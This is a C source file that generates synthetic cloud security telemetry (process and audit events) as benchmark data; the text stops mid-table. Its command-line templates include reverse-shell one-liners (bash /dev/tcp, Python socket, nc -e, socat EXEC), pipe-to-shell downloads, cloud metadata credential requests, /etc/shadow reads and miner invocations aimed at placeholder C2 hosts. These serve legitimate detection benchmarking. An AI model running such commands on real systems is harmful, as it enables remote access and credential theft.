/* bench/gen.c — deterministic generator of benchmark data for hunt and DuckDB.
 *
 * Writes realistic NDJSON for CloudProcessEvents and CloudAuditEvents (--rows N
 * each) and SecurityAlert (N/10), with columns exactly as in
 * /work/shared/schemas/{table}.json, in that order. Everything comes from one
 * seeded splitmix64 stream per table, so the same --seed and --rows give the
 * same bytes every time (and on any machine whose libm pow() agrees).
 *
 * Shape of the data:
 *  - Timestamps rise through 2026-02-01 .. 2026-03-03 (30 days) with a few
 *    minutes of jitter, the way ingestion order roughly follows event time.
 *  - Categorical columns (ActionType, OperationName, ProcessName, AccountName,
 *    resource ids, IPs, images ...) are drawn from Zipf-like distributions, so a
 *    few values dominate and a long tail is rare.
 *  - A shared pool of a few thousand cloud resources in Azure
 *    (/subscriptions/...), AWS (arn:aws:...) and GCP (//....googleapis.com/...)
 *    forms; CloudProcessEvents.AzureResourceId / AwsResourceName /
 *    GcpFullResourceName and CloudAuditEvents.ResourceId draw from it, so a join
 *    on resource id finds matches.
 *  - Command lines come from per-process templates filled with tokens, paths,
 *    IPs, ports and base64 blobs; a small share are attack-like.
 *  - CloudAuditEvents.RawEventData / AdditionalFields are nested JSON objects;
 *    CloudProcessEvents.AdditionalFields and SecurityAlert.Entities are JSON
 *    text inside a string, as in the schema examples.
 *
 * Output goes through one large buffer with hand-written appenders (no printf
 * per field), which keeps it at tens to a hundred MB/s on one core.
 *
 * Usage: gen --rows N --out DIR [--seed S] [--table NAME]
 *   writes DIR/{CloudProcessEvents,CloudAuditEvents,SecurityAlert}.json
 *   (only NAME's file with --table, so bench/run can run tables in parallel).
 */
#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define N_ELEMS(a) ((int)(sizeof(a) / sizeof((a)[0])))

/* ---- random numbers ------------------------------------------------------ */

static uint64_t rng;

static uint64_t mix64(uint64_t z)
{
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}
static uint64_t rnd(void)
{
    return mix64(rng += 0x9e3779b97f4a7c15ULL);
}
static double unif(void)
{
    return (double)(rnd() >> 11) * 0x1.0p-53;
}
static uint32_t below(uint32_t n)
{
    return (uint32_t)(((rnd() >> 32) * n) >> 32);
}
static int chance(double p)
{
    return unif() < p;
}
static uint64_t hash2(uint64_t a, uint64_t b)
{
    return mix64(a * 0x9e3779b97f4a7c15ULL ^ mix64(b + 1));
}

/* Zipf(s) over ranks 0..n-1 by a cumulative table and binary search. */
typedef struct {
    int n;
    double *cdf;
} zipf;

static void zipf_init(zipf *z, int n, double s)
{
    double sum = 0;
    z->n = n;
    z->cdf = malloc(sizeof(double) * (size_t)n);
    if (!z->cdf) {
        perror("malloc");
        exit(1);
    }
    for (int i = 0; i < n; i++) {
        sum += 1.0 / pow(i + 1, s);
        z->cdf[i] = sum;
    }
    for (int i = 0; i < n; i++)
        z->cdf[i] /= sum;
}
static int zdraw(const zipf *z)
{
    double u = unif();
    int lo = 0, hi = z->n - 1;
    while (lo < hi) {
        int mid = (lo + hi) / 2;
        if (z->cdf[mid] < u)
            lo = mid + 1;
        else
            hi = mid;
    }
    return lo;
}

/* ---- output buffer ------------------------------------------------------- */

#define OUT_CAP (4 << 20)
static char out[OUT_CAP];
static size_t pos;
static FILE *outf;

static void flush_out(void)
{
    if (pos && fwrite(out, 1, pos, outf) != pos) {
        perror("write");
        exit(1);
    }
    pos = 0;
}
/* Called once per row: no row comes near 64 KiB. */
static void row_begin(void)
{
    if (pos > OUT_CAP - 65536)
        flush_out();
}
static void put_c(char c)
{
    out[pos++] = c;
}
static void put_n(const char *s, size_t n)
{
    memcpy(out + pos, s, n);
    pos += n;
}
static void put_s(const char *s)
{
    put_n(s, strlen(s));
}
static void put_u(uint64_t v)
{
    char t[24];
    int n = 0;
    do {
        t[n++] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    while (n)
        put_c(t[--n]);
}
static void put_hex(uint64_t v, int digits)
{
    static const char hx[] = "0123456789abcdef";
    for (int i = digits - 1; i >= 0; i--)
        put_c(hx[(v >> (4 * (i % 16))) & 15]);
}
static void put_uuid(uint64_t h)
{
    uint64_t g = mix64(h);
    put_hex(h >> 32, 8), put_c('-'), put_hex(h >> 16, 4), put_c('-');
    put_c('4'), put_hex(h, 3), put_c('-'), put_c("89ab"[g & 3]), put_hex(g >> 2, 3), put_c('-');
    put_hex(g >> 20, 12);
}
static void put_b64(int len)
{
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    uint64_t r = 0;
    for (int i = 0; i < len; i++) {
        if (i % 10 == 0)
            r = rnd();
        put_c(b64[r & 63]);
        r >>= 6;
    }
    if (len % 4 == 2)
        put_s("==");
    else if (len % 4 == 3)
        put_c('=');
}
/* Escape out[from..pos) in place as the contents of a JSON string. */
static void escape_from(size_t from)
{
    size_t n = pos - from, extra = 0;
    for (size_t i = from; i < pos; i++)
        if (out[i] == '"' || out[i] == '\\')
            extra++;
    if (!extra)
        return;
    size_t src = pos, dst = pos + extra;
    pos = dst;
    while (n--) {
        char c = out[--src];
        out[--dst] = c;
        if (c == '"' || c == '\\')
            out[--dst] = '\\';
    }
}
/* Start member k of the object being written: a comma unless it is the first. */
static void key(const char *k)
{
    if (out[pos - 1] != '{')
        put_c(',');
    put_c('"');
    put_s(k);
    put_s("\":");
}
static void kv_s(const char *k, const char *v)
{
    key(k);
    put_c('"');
    put_s(v);
    put_c('"');
}
static void kv_u(const char *k, uint64_t v)
{
    key(k);
    put_u(v);
}

/* ---- time ---------------------------------------------------------------- */

/* Microseconds since 2026-02-01T00:00:00Z; the window is 30 days. */
#define SPAN_US (30LL * 86400 * 1000000)
static void put_ts_raw(int64_t us)
{
    if (us < 0) /* jitter past either end folds back inside the window */
        us = -us;
    if (us >= SPAN_US)
        us = 2 * SPAN_US - 1 - us;
    int64_t sec = us / 1000000, frac = us % 1000000;
    int day = (int)(sec / 86400), s = (int)(sec % 86400);
    int mon = day < 28 ? 2 : 3, mday = day < 28 ? day + 1 : day - 27;
    char t[32];
    memcpy(t, "2026-02-01T00:00:00.0000000Z", 28);
    t[6] = (char)('0' + mon);
    t[8] = (char)('0' + mday / 10), t[9] = (char)('0' + mday % 10);
    t[11] = (char)('0' + s / 36000), t[12] = (char)('0' + s / 3600 % 10);
    t[14] = (char)('0' + s % 3600 / 600), t[15] = (char)('0' + s % 600 / 60);
    t[17] = (char)('0' + s % 60 / 10), t[18] = (char)('0' + s % 10);
    for (int i = 25; i >= 20; i--, frac /= 10)
        t[i] = (char)('0' + frac % 10);
    put_n(t, 28);
}
static void kv_ts(const char *k, int64_t us)
{
    key(k);
    put_c('"');
    put_ts_raw(us);
    put_c('"');
}
/* Row i of n: time rises with i, plus up to +-3 minutes of jitter. */
static int64_t row_time(uint64_t i, uint64_t n)
{
    int64_t base = (int64_t)((double)i / (double)n * (double)SPAN_US);
    return base + (int64_t)below(360000000u) - 180000000;
}

/* ---- vocabularies -------------------------------------------------------- */

static const char *words[] = {
    "api",       "web",       "worker",  "payments", "billing",   "auth",     "orders",   "cart",
    "search",    "inventory", "report",  "export",   "backup",    "sync",     "metrics",  "config",
    "deploy",    "update",    "install", "setup",    "health",    "status",   "cache",    "queue",
    "ingest",    "index",     "session", "token",    "upload",    "download", "notify",   "mailer",
    "scheduler", "cron",      "loader",  "agent",    "collector", "exporter", "gateway",  "proxy",
    "ledger",    "catalog",   "profile", "users",    "accounts",  "invoices", "shipping", "pricing",
    "audit",     "events",    "data",    "model",    "train",     "predict",  "etl",      "stream",
    "batch",     "archive",   "logs",    "trace",
};
static const char *envs[] = {"prod", "staging", "dev", "qa", "test"};
static const char *namespaces[] = {
    "default",
    "payments",
    "web",
    "kube-system",
    "monitoring",
    "data",
    "auth",
    "orders",
    "ingress-nginx",
    "logging",
    "ml",
    "ci",
    "billing",
    "search",
    "cert-manager",
    "istio-system",
    "batch",
    "analytics",
    "gatekeeper-system",
    "argocd",
    "shop",
    "inventory",
    "backend",
    "frontend",
    "jobs",
};
static const char *registries[] = {
    "contoso.azurecr.io",      "111122223333.dkr.ecr.eu-west-1.amazonaws.com",
    "gcr.io/example-prod-123", "docker.io/library",
    "ghcr.io/contoso",         "public.ecr.aws/docker/library",
    "quay.io/prometheus",      "registry.k8s.io",
    "mcr.microsoft.com/oss",
};
static const char *hosts[] = {
    "api.github.com",
    "registry.npmjs.org",
    "pypi.org",
    "files.pythonhosted.org",
    "objects.githubusercontent.com",
    "login.microsoftonline.com",
    "management.azure.com",
    "s3.amazonaws.com",
    "storage.googleapis.com",
    "pastebin.com",
    "raw.githubusercontent.com",
    "transfer.sh",
    "pool.minexmr.com",
    "xmr.pool.example.net",
    "update.example-cdn.net",
    "c2.badhost.example",
    "ngrok.io",
    "dl-cdn.alpinelinux.org",
    "deb.debian.org",
    "api.contoso.com",
    "internal.contoso.local",
    "vault.contoso.local",
};
static const int ports[] = {443,  80,   8080, 8443, 3000, 5000, 6379, 5432,
                            3306, 9090, 4444, 1337, 3333, 53,   22,   9200};
static const char *accounts[] = {
    "root",    "www-data",   "node",    "app",     "nobody",   "postgres",  "redis",
    "nginx",   "daemon",     "jenkins", "appuser", "python",   "java",      "elasticsearch",
    "grafana", "prometheus", "mysql",   "ubuntu",  "ec2-user", "azureuser",
};
static const char *first_names[] = {
    "alice", "bob",    "carol",   "dave",  "erin",  "frank", "grace",  "heidi",
    "ivan",  "judy",   "mallory", "nina",  "oscar", "peggy", "rupert", "sybil",
    "trent", "victor", "walter",  "yusuf", "zoe",   "mei",   "raj",    "sven",
};
static const char *last_names[] = {
    "smith",    "jones",  "garcia", "miller", "davis", "lopez",  "wilson",
    "anderson", "thomas", "moore",  "martin", "lee",   "walker", "hall",
    "young",    "king",   "wright", "scott",  "green", "baker",
};
static const char *regions[] = {"eu-west-1", "us-east-1", "us-west-2", "ap-southeast-1",
                                "eu-central-1"};
static const char *zones[] = {"europe-west1-b", "us-central1-a", "us-east1-c", "asia-east1-a",
                              "europe-west4-a"};

/* Processes, most common first; cmd selects the command-line template. */
typedef struct {
    const char *name, *path;
} proc_t;
static const proc_t procs[] = {
    {"sh", "/bin/sh"},
    {"bash", "/bin/bash"},
    {"python3", "/usr/bin/python3"},
    {"node", "/usr/local/bin/node"},
    {"java", "/usr/bin/java"},
    {"cat", "/bin/cat"},
    {"ls", "/bin/ls"},
    {"grep", "/bin/grep"},
    {"ps", "/bin/ps"},
    {"curl", "/usr/bin/curl"},
    {"nginx", "/usr/sbin/nginx"},
    {"sleep", "/bin/sleep"},
    {"awk", "/usr/bin/awk"},
    {"sed", "/bin/sed"},
    {"find", "/usr/bin/find"},
    {"kubectl", "/usr/local/bin/kubectl"},
    {"wget", "/usr/bin/wget"},
    {"apt-get", "/usr/bin/apt-get"},
    {"pip", "/usr/local/bin/pip"},
    {"npm", "/usr/local/bin/npm"},
    {"git", "/usr/bin/git"},
    {"tar", "/bin/tar"},
    {"chmod", "/bin/chmod"},
    {"base64", "/usr/bin/base64"},
    {"openssl", "/usr/bin/openssl"},
    {"aws", "/usr/local/bin/aws"},
    {"az", "/usr/bin/az"},
    {"gcloud", "/usr/bin/gcloud"},
    {"ssh", "/usr/bin/ssh"},
    {"id", "/usr/bin/id"},
    {"whoami", "/usr/bin/whoami"},
    {"env", "/usr/bin/env"},
    {"perl", "/usr/bin/perl"},
    {"crontab", "/usr/bin/crontab"},
    {"mount", "/bin/mount"},
    {"nc", "/bin/nc"},
    {"socat", "/usr/bin/socat"},
    {"nsenter", "/usr/bin/nsenter"},
    {"ncat", "/usr/bin/ncat"},
    {"xmrig", "/tmp/.x/xmrig"},
    {"kworkerds", "/var/tmp/.cache/kworkerds"},
};
static const char *parents[] = {"sh",   "bash", "containerd-shim", "runc", "python3", "node",
                                "java", "tini", "dumb-init",       "sshd", "kubelet"};
static const char *cwds[] = {
    "/app",         "/",        "/srv",          "/tmp",      "/root",
    "/usr/src/app", "/opt/app", "/var/www/html", "/home/app", "/workspace"};

/* ---- shared pools: resources, IPs, identities ---------------------------- */

#define N_RES 3000
#define N_IP 20000
typedef struct {
    char id[200];
    char name[48];
    int plat;    /* 0 Azure, 1 AWS, 2 GCP */
    int compute; /* 1 cluster, 2 VM/instance, 0 other */
    int acct;    /* subscription / account / project index */
    int region;
} resource;
static resource res[N_RES];
static int compute_idx[N_RES], n_compute;
static uint32_t ips[N_IP];
static char subs[12][40];
static char aws_accts[10][16];
static char gcp_projects[8][32];
static char tenant[40];
static zipf z_res, z_comp, z_ip, z_proc, z_acct, z_words, z_ns, z_host, z_b64;

static void put_ip(uint32_t ip)
{
    put_u(ip >> 24), put_c('.'), put_u(ip >> 16 & 255), put_c('.'), put_u(ip >> 8 & 255),
        put_c('.'), put_u(ip & 255);
}
/* Render into a small string through the output buffer (used at setup). */
static void take_str(size_t from, char *dst, size_t cap)
{
    size_t n = pos - from;
    if (n >= cap)
        n = cap - 1;
    memcpy(dst, out + from, n);
    dst[n] = 0;
    pos = from;
}

static void make_pools(uint64_t seed)
{
    rng = seed * 7919 + 17;
    for (int i = 0; i < 12; i++) {
        size_t f = pos;
        put_uuid(rnd());
        take_str(f, subs[i], sizeof subs[i]);
    }
    for (int i = 0; i < 10; i++) {
        size_t f = pos;
        put_u(100000000000ULL + rnd() % 899999999999ULL);
        take_str(f, aws_accts[i], sizeof aws_accts[i]);
    }
    for (int i = 0; i < 8; i++) {
        size_t f = pos;
        put_s(words[below(N_ELEMS(words))]), put_c('-'), put_s(envs[i % 3]), put_c('-'),
            put_u(100 + below(900));
        take_str(f, gcp_projects[i], sizeof gcp_projects[i]);
    }
    {
        size_t f = pos;
        put_uuid(rnd());
        take_str(f, tenant, sizeof tenant);
    }
    for (int i = 0; i < N_RES; i++) {
        resource *r = &res[i];
        double u = unif();
        r->plat = u < 0.5 ? 0 : u < 0.8 ? 1 : 2;
        int kind = (int)below(10); /* 0-1 cluster, 2-3 VM, 4.. other */
        r->compute = kind < 2 ? 1 : kind < 4 ? 2 : 0;
        r->region = (int)below(5);
        size_t f = pos;
        put_s(words[below(N_ELEMS(words))]), put_c('-'), put_s(envs[below(N_ELEMS(envs))]),
            put_c('-'), put_u(i);
        take_str(f, r->name, sizeof r->name);
        f = pos;
        if (r->plat == 0) {
            r->acct = (int)below(12);
            static const char *prov[] = {"Microsoft.ContainerService/managedClusters",
                                         "Microsoft.Compute/virtualMachines",
                                         "Microsoft.Storage/storageAccounts",
                                         "Microsoft.KeyVault/vaults",
                                         "Microsoft.Sql/servers",
                                         "Microsoft.Web/sites",
                                         "Microsoft.Network/networkSecurityGroups"};
            int p = kind < 2 ? 0 : kind < 4 ? 1 : 2 + (kind - 4) % 5;
            put_s("/subscriptions/"), put_s(subs[r->acct]), put_s("/resourceGroups/");
            put_s(words[hash2(i, 1) % N_ELEMS(words)]), put_s("-rg/providers/"), put_s(prov[p]),
                put_c('/'), put_s(r->name);
        } else if (r->plat == 1) {
            r->acct = (int)below(10);
            const char *a = aws_accts[r->acct], *rg = regions[r->region];
            if (kind < 2)
                put_s("arn:aws:eks:"), put_s(rg), put_c(':'), put_s(a), put_s(":cluster/"),
                    put_s(r->name);
            else if (kind < 4)
                put_s("arn:aws:ec2:"), put_s(rg), put_c(':'), put_s(a), put_s(":instance/i-0"),
                    put_hex(rnd(), 16);
            else if (kind < 6)
                put_s("arn:aws:s3:::"), put_s(r->name);
            else if (kind < 8)
                put_s("arn:aws:iam::"), put_s(a), put_s(":role/"), put_s(r->name);
            else if (kind < 9)
                put_s("arn:aws:lambda:"), put_s(rg), put_c(':'), put_s(a), put_s(":function:"),
                    put_s(r->name);
            else
                put_s("arn:aws:cloudtrail:"), put_s(rg), put_c(':'), put_s(a), put_s(":trail/"),
                    put_s(r->name);
        } else {
            r->acct = (int)below(8);
            const char *p = gcp_projects[r->acct];
            if (kind < 2)
                put_s("//container.googleapis.com/projects/"), put_s(p), put_s("/locations/"),
                    put_s(zones[r->region]), put_s("/clusters/"), put_s(r->name);
            else if (kind < 4)
                put_s("//compute.googleapis.com/projects/"), put_s(p), put_s("/zones/"),
                    put_s(zones[r->region]), put_s("/instances/"), put_s(r->name);
            else if (kind < 7)
                put_s("//storage.googleapis.com/projects/_/buckets/"), put_s(r->name);
            else if (kind < 9)
                put_s("//iam.googleapis.com/projects/"), put_s(p), put_s("/serviceAccounts/"),
                    put_s(r->name), put_c('@'), put_s(p), put_s(".iam.gserviceaccount.com");
            else
                put_s("//cloudresourcemanager.googleapis.com/projects/"), put_s(p);
        }
        take_str(f, r->id, sizeof r->id);
        if (r->compute)
            compute_idx[n_compute++] = i;
    }
    for (int i = 0; i < N_IP; i++) {
        if (chance(0.3)) {
            ips[i] = (10u << 24) | (uint32_t)below(1 << 24);
        } else {
            uint32_t a;
            do
                a = 1 + below(223);
            while (a == 10 || a == 127 || a == 172 || a == 192 || a == 169 || a == 100);
            ips[i] = a << 24 | (uint32_t)below(1 << 24);
        }
    }
    zipf_init(&z_res, N_RES, 0.9);
    zipf_init(&z_comp, n_compute, 0.9);
    zipf_init(&z_ip, N_IP, 1.05);
    zipf_init(&z_proc, N_ELEMS(procs), 1.3);
    zipf_init(&z_acct, 300, 1.2);
    zipf_init(&z_words, N_ELEMS(words), 0.8);
    zipf_init(&z_ns, N_ELEMS(namespaces), 1.0);
    zipf_init(&z_host, N_ELEMS(hosts), 1.1);
    zipf_init(&z_b64, 8, 1.0);
}

static const char *word(void)
{
    return words[zdraw(&z_words)];
}
static uint32_t pick_ip(void)
{
    return ips[zdraw(&z_ip)];
}
static int pick_port(void)
{
    return ports[below(N_ELEMS(ports))];
}
/* Account names: 20 service users, then svc-<word> and first.last. */
static void put_account(int k)
{
    if (k < N_ELEMS(accounts))
        put_s(accounts[k]);
    else if (k < N_ELEMS(accounts) + N_ELEMS(words))
        put_s("svc-"), put_s(words[k - N_ELEMS(accounts)]);
    else
        put_s(first_names[k % N_ELEMS(first_names)]), put_c('.'),
            put_s(last_names[k / 7 % N_ELEMS(last_names)]);
}
static void put_upn(int k)
{
    put_s(first_names[k % N_ELEMS(first_names)]), put_c('.'),
        put_s(last_names[k / 3 % N_ELEMS(last_names)]);
    put_s("@contoso.com");
}

/* ---- command lines ------------------------------------------------------- */

static void put_cmdline(int p)
{
    const char *w = word();
    uint32_t r = below(100);
    switch (p) {
    case 0: /* sh */
    case 1: /* bash */
        put_s(procs[p].name);
        if (r < 40)
            put_s(" -c \"cd /app && exec ./"), put_s(w), put_s(".sh --env "), put_s(envs[below(5)]),
                put_c('"');
        else if (r < 60)
            put_s(" /docker-entrypoint.sh "), put_s(w);
        else if (r < 75)
            put_s(" -c \"sleep "), put_u(1 + below(600)), put_s("; /usr/local/bin/"), put_s(w),
                put_s(" --once\"");
        else if (r < 85)
            put_s(" /opt/scripts/"), put_s(w), put_s(".sh "), put_s(word());
        else if (r < 92)
            put_s(" -c \"test -f /var/run/secrets/kubernetes.io/serviceaccount/token && echo ok\"");
        else if (r < 96)
            put_s(" -c \"curl -s http://"), put_ip(pick_ip()), put_c('/'), put_s(w),
                put_s(".sh | sh\"");
        else if (r < 98)
            put_s(" -c \"echo "), put_b64(24 + 8 * zdraw(&z_b64)), put_s(" | base64 -d | sh\"");
        else
            put_s(" -i >& /dev/tcp/"), put_ip(pick_ip()), put_c('/'), put_u((uint64_t)pick_port()),
                put_s(" 0>&1");
        break;
    case 2: /* python3 */
        if (r < 50)
            put_s("python3 /app/"), put_s(w), put_s(".py --port "), put_u((uint64_t)pick_port());
        else if (r < 85)
            put_s("python3 -m gunicorn "), put_s(w), put_s(".wsgi:app -b 0.0.0.0:"),
                put_u((uint64_t)pick_port()), put_s(" -w "), put_u(1 + below(8));
        else if (r < 98)
            put_s("python3 manage.py "), put_s(w), put_s(" --settings="), put_s(envs[below(5)]);
        else
            put_s("python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('"),
                put_ip(pick_ip()), put_s("',"), put_u((uint64_t)pick_port()),
                put_s("));os.dup2(s.fileno(),0)\"");
        break;
    case 3: /* node */
        if (r < 70)
            put_s("node /app/dist/"), put_s(w), put_s("/server.js");
        else
            put_s("node --max-old-space-size="), put_u(256u << below(5)), put_s(" /srv/"), put_s(w),
                put_s("/index.js");
        break;
    case 4: /* java */
        put_s("java -Xmx"), put_u(256u << below(5)), put_s("m -jar /opt/"), put_s(w), put_c('/'),
            put_s(w), put_c('-'), put_u(1 + below(4)), put_c('.'), put_u(below(20)),
            put_s(".jar --spring.profiles.active="), put_s(envs[below(5)]);
        break;
    case 5: /* cat */
        if (r < 50)
            put_s("cat /app/config/"), put_s(w), put_s(".yaml");
        else if (r < 80)
            put_s("cat /proc/"), put_u(1 + below(40000)), put_s("/status");
        else if (r < 93)
            put_s("cat /etc/passwd");
        else
            put_s("cat /var/run/secrets/kubernetes.io/serviceaccount/token");
        break;
    case 6:
        put_s(r < 50 ? "ls -la /app/" : "ls /var/log/"), put_s(w);
        break;
    case 7:
        put_s("grep -r "), put_s(w), put_s(" /var/log/"), put_s(word()), put_s(".log");
        break;
    case 8:
        put_s(r < 50 ? "ps aux" : r < 90 ? "ps -ef" : "ps -eo pid,user,args --sort=-%cpu");
        break;
    case 9: /* curl */
        if (r < 45)
            put_s("curl -sSf https://"), put_s(hosts[zdraw(&z_host)]), put_s("/healthz");
        else if (r < 70)
            put_s("curl -s -X POST -H Authorization:Bearer_"), put_b64(32 + 8 * zdraw(&z_b64)),
                put_s(" https://"), put_s(hosts[zdraw(&z_host)]), put_s("/api/v1/"), put_s(w);
        else if (r < 85)
            put_s("curl -s "
                  "http://169.254.169.254/metadata/identity/oauth2/"
                  "token?api-version=2018-02-01&resource=https://"
                  "management.azure.com/ -H Metadata:true");
        else if (r < 92)
            put_s("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
                put_s(w);
        else
            put_s("curl -s http://"), put_ip(pick_ip()), put_c(':'), put_u((uint64_t)pick_port()),
                put_c('/'), put_s(w), put_s(".sh -o /tmp/"), put_s(w);
        break;
    case 10:
        put_s("nginx -g daemon off;");
        break;
    case 11:
        put_s("sleep "), put_u(below(3600));
        break;
    case 15: /* kubectl */
        if (r < 60)
            put_s("kubectl get pods -n "), put_s(namespaces[zdraw(&z_ns)]);
        else if (r < 80)
            put_s("kubectl get secrets -A -o json");
        else
            put_s("kubectl exec -it "), put_s(w), put_s("-0 -n "), put_s(namespaces[zdraw(&z_ns)]),
                put_s(" -- /bin/sh");
        break;
    case 16: /* wget */
        if (r < 70)
            put_s("wget -q https://"), put_s(hosts[zdraw(&z_host)]), put_s("/releases/"), put_s(w),
                put_c('-'), put_u(below(10)), put_c('.'), put_u(below(30)), put_s(".tar.gz");
        else
            put_s("wget -q http://"), put_ip(pick_ip()), put_c('/'), put_s(w), put_s(" -O /tmp/."),
                put_s(w);
        break;
    case 23: /* base64 */
        put_s(r < 60 ? "base64 -d /tmp/" : "base64 -w0 /etc/"), put_s(r < 60 ? w : "shadow"),
            put_s(r < 60 ? ".b64" : "");
        break;
    case 24: /* openssl */
        if (r < 70)
            put_s("openssl s_client -connect "), put_s(hosts[zdraw(&z_host)]),
                put_s(":443 -servername "), put_s(w);
        else
            put_s("openssl enc -aes-256-cbc -d -in /tmp/"), put_s(w), put_s(".enc -k "),
                put_b64(16);
        break;
    case 25: /* aws */
        if (r < 40)
            put_s("aws s3 cp s3://"), put_s(w), put_c('-'), put_s(envs[below(5)]), put_c('/'),
                put_s(word()), put_s(".tar.gz /tmp/");
        else if (r < 75)
            put_s("aws sts get-caller-identity");
        else
            put_s("aws secretsmanager get-secret-value --secret-id "), put_s(w), put_c('/'),
                put_s(envs[below(5)]);
        break;
    case 35:
    case 38: /* nc, ncat */
        put_s(procs[p].name), put_s(r < 50 ? " -e /bin/sh " : " -zv "), put_ip(pick_ip()),
            put_c(' '), put_u((uint64_t)pick_port());
        break;
    case 36:
        put_s("socat TCP:"), put_ip(pick_ip()), put_c(':'), put_u((uint64_t)pick_port()),
            put_s(" EXEC:/bin/bash");
        break;
    case 37:
        put_s("nsenter -t 1 -m -u -i -n sh");
        break;
    case 39:
    case 40: /* miners */
        put_s(procs[p].path), put_s(" -o stratum+tcp://"), put_s(hosts[12 + below(2)]),
            put_s(":3333 -u "), put_b64(64), put_s(" --donate-level 0");
        break;
    default:
        put_s(procs[p].path), put_c(' ');
        if (r < 50)
            put_s("--"), put_s(w), put_c(' '), put_s(word());
        else
            put_c('/'), put_s(w), put_c('/'), put_s(word());
    }
}

/* ---- CloudProcessEvents -------------------------------------------------- */

static void gen_process(uint64_t n)
{
    static const char *acts[] = {"ProcessCreated", "ProcessTerminated", "ProcessCreatedFromMemfd",
                                 "ProcessInjected"};
    zipf z_act;
    zipf_init(&z_act, 4, 4.0);
    for (uint64_t i = 0; i < n; i++) {
        row_begin();
        int64_t ts = row_time(i, n);
        const resource *r = &res[compute_idx[zdraw(&z_comp)]];
        int wl = (int)(hash2((uint64_t)(r - res), (uint64_t)zdraw(&z_words)) %
                       400); /* workload on this resource */
        const char *app = words[wl % N_ELEMS(words)];
        const char *ns = namespaces[(wl / 7) % N_ELEMS(namespaces)];
        int pod = (int)below(6);
        uint64_t podh = hash2(hash2((uint64_t)(r - res), (uint64_t)wl), (uint64_t)pod);
        int p = zdraw(&z_proc);
        int k8s = r->compute == 1;

        put_s("{");
        kv_ts("Timestamp", ts);
        kv_s("AzureResourceId", r->plat == 0 ? r->id : "");
        kv_s("AwsResourceName", r->plat == 1 ? r->id : "");
        kv_s("GcpFullResourceName", r->plat == 2 ? r->id : "");
        key("ContainerImageName"), put_c('"'), put_s(registries[wl % N_ELEMS(registries)]),
            put_c('/'), put_s(app), put_c(':'), put_u(1 + wl % 3), put_c('.'), put_u(wl % 11),
            put_c('.'), put_u(wl % 5), put_c('"');
        kv_s("KubernetesNamespace", k8s ? ns : "");
        key("KubernetesPodName"), put_c('"');
        if (k8s)
            put_s(app), put_c('-'), put_hex(hash2(podh, 7) & 0xfffffffff, 9), put_c('-'),
                put_hex(podh, 5);
        put_c('"');
        key("KubernetesResource"), put_c('"');
        if (k8s)
            put_s(ns), put_s("/deployment/"), put_s(app);
        put_c('"');
        kv_s("ContainerName", app);
        key("ContainerId"), put_c('"'), put_hex(podh, 16), put_hex(hash2(podh, 1), 16),
            put_hex(hash2(podh, 2), 16), put_hex(hash2(podh, 3), 16), put_c('"');
        kv_s("ActionType", acts[zdraw(&z_act)]);
        kv_s("FileName", procs[p].name);
        kv_s("FolderPath", procs[p].path);
        uint64_t pid = 2 + below(65000), ppid = 1 + below((uint32_t)pid);
        kv_u("ProcessId", pid);
        kv_s("ProcessName", procs[p].name);
        kv_s("ParentProcessName", parents[below(p < 2 ? 4 : N_ELEMS(parents))]);
        key("ParentProcessId"), put_c('"'), put_u(ppid), put_c('"');
        key("ProcessCommandLine"), put_c('"');
        size_t f = pos;
        put_cmdline(p);
        escape_from(f);
        put_c('"');
        kv_ts("ProcessCreationTime", ts - below(2000000));
        kv_s("ProcessCurrentWorkingDirectory", cwds[below(p < 5 ? 3 : N_ELEMS(cwds))]);
        key("AccountName"), put_c('"'), put_account(zdraw(&z_acct)), put_c('"');
        kv_u("LogonId", chance(0.7) ? 0 : rnd() % 4000000000ULL);
        key("InitiatingProcessId"), put_c('"'), put_u(ppid), put_c('"');
        key("AdditionalFields"), put_s("\"{\\\"UpperLayer\\\":\\\""),
            put_s(p >= 35 || chance(0.05) ? "True" : "False");
        put_s("\\\",\\\"Memfd\\\":\\\""), put_s(chance(0.002) ? "True" : "False");
        put_s("\\\",\\\"ContainerRuntime\\\":\\\""), put_s(k8s ? "containerd" : "docker");
        put_s("\\\",\\\"ImageDigest\\\":\\\"sha256:"), put_hex(hash2((uint64_t)wl, 9), 16),
            put_hex(hash2((uint64_t)wl, 10), 16);
        put_s("\\\"}\"");
        put_s("}\n");
    }
}

/* ---- CloudAuditEvents ---------------------------------------------------- */

typedef struct {
    const char *op, *act, *svc;
} op_t;
static const op_t ops_azure[] = {
    {"Microsoft.Compute/virtualMachines/read", "Read", "GET"},
    {"Microsoft.Resources/subscriptions/resourceGroups/read", "Read", "GET"},
    {"Microsoft.Storage/storageAccounts/read", "Read", "GET"},
    {"Microsoft.ContainerService/managedClusters/read", "Read", "GET"},
    {"Microsoft.KeyVault/vaults/read", "Read", "GET"},
    {"Microsoft.Compute/virtualMachines/write", "Update", "PUT"},
    {"Microsoft.Network/networkSecurityGroups/securityRules/write", "Update", "PUT"},
    {"Microsoft.Storage/storageAccounts/listKeys/action", "Other", "POST"},
    {"Microsoft.Authorization/roleAssignments/write", "Create", "PUT"},
    {"Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action", "Other",
     "POST"},
    {"Microsoft.Compute/virtualMachines/runCommand/action", "Other", "POST"},
    {"Microsoft.Compute/virtualMachines/delete", "Delete", "DELETE"},
    {"Microsoft.Storage/storageAccounts/delete", "Delete", "DELETE"},
    {"Microsoft.Insights/diagnosticSettings/delete", "Delete", "DELETE"},
    {"Microsoft.Compute/snapshots/beginGetAccess/action", "Unknown", "POST"},
};
static const op_t ops_aws[] = {
    {"DescribeInstances", "Read", "ec2"},    {"GetObject", "Read", "s3"},
    {"ListBuckets", "Read", "s3"},           {"AssumeRole", "Other", "sts"},
    {"GetCallerIdentity", "Read", "sts"},    {"PutObject", "Create", "s3"},
    {"ConsoleLogin", "Other", "signin"},     {"GetSecretValue", "Read", "secretsmanager"},
    {"RunInstances", "Create", "ec2"},       {"AttachRolePolicy", "Update", "iam"},
    {"CreateAccessKey", "Create", "iam"},    {"PutBucketPolicy", "Update", "s3"},
